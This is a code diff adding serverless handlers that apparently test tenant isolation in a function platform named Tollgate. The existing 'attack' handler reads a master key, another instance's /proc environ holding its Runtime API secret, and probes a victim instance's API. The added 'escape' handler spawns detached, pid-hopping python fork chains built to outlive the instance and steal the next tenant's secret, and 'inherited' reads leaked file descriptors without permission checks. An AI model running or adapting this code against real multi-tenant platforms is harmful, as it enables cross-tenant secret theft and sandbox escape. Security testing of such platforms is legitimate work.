@@ -79,10 +79,60 @@ exports.attack = async (event) => {
     masterKey: attempt(() => fs.readFileSync(`${dataDir}/master.key`, "latin1")),
     database: attempt(() => fs.readFileSync(`${dataDir}/tollgate.db`).length),
     victimEnviron: attempt(() => fs.readFileSync(`/proc/${victimPid}/environ`, "latin1")),
+    noNewPrivs: attempt(() => fs.readFileSync("/proc/self/status", "latin1").split("\n").find((l) => l.startsWith("NoNewPrivs:"))),
     ownAPIWithoutSecret: await get(own.port, next, 3000),
     victimAPIWithoutSecret: await get(victimPort, next, 3000),
     victimAPIWithOwnSecret: await get(victimPort, `/${own.secret}${next}`, 3000),
     scan,
   };
   return { statusCode: 200, body: JSON.stringify(report) };
+};
+
+// escape leaves processes behind that outlive its instance: chains of
+// python3 forks, each in a session of its own, that never keep a pid for
+// long (a scan of /proc that kills the pids it listed finds none alive),
+// for a minute. One that lived on with the instance's uid would read the
+// environment (the Runtime API secret) of the next instance given that
+// uid. It logs its uid, and the instance exits.
+const hopper = `
+import os, time
+end = time.time() + 60
+while time.time() < end:
+    if os.fork():
+        os._exit(0)
+`;
+exports.escape = async () => {
+  const cp = require("node:child_process");
+  for (let i = 0; i < 3; i++) {
+    cp.spawn("python3", ["-c", hopper], { detached: true, stdio: "ignore" }).unref();
+  }
+  await new Promise((r) => setTimeout(r, 500)); // the chains are under way
+  console.log(`escaper uid=${process.getuid()}`);
+  process.exit(0);
+};
+
+// env reports the instance's environment (what Tollgate gave it).
+exports.env = async () => ({ statusCode: 200, body: JSON.stringify(process.env) });
+
+// inherited reads every open file descriptor of the instance that is a
+// regular file, through the descriptor itself (no permission check).
+exports.inherited = async () => {
+  const out = {};
+  for (const fd of fs.readdirSync("/proc/self/fd")) {
+    let target;
+    try {
+      target = fs.readlinkSync("/proc/self/fd/" + fd);
+    } catch (e) {
+      continue;
+    }
+    if (!target.startsWith("/") || target.startsWith("/dev/")) continue;
+    try {
+      const buf = Buffer.alloc(4096);
+      const n = fs.readSync(Number(fd), buf, 0, buf.length, 0);
+      out[fd] = { target, content: buf.subarray(0, n).toString("latin1") };
+    } catch (e) {
+      out[fd] = { target, error: e.code };
+    }
+  }
+  return { statusCode: 200, body: JSON.stringify(out) };
 };
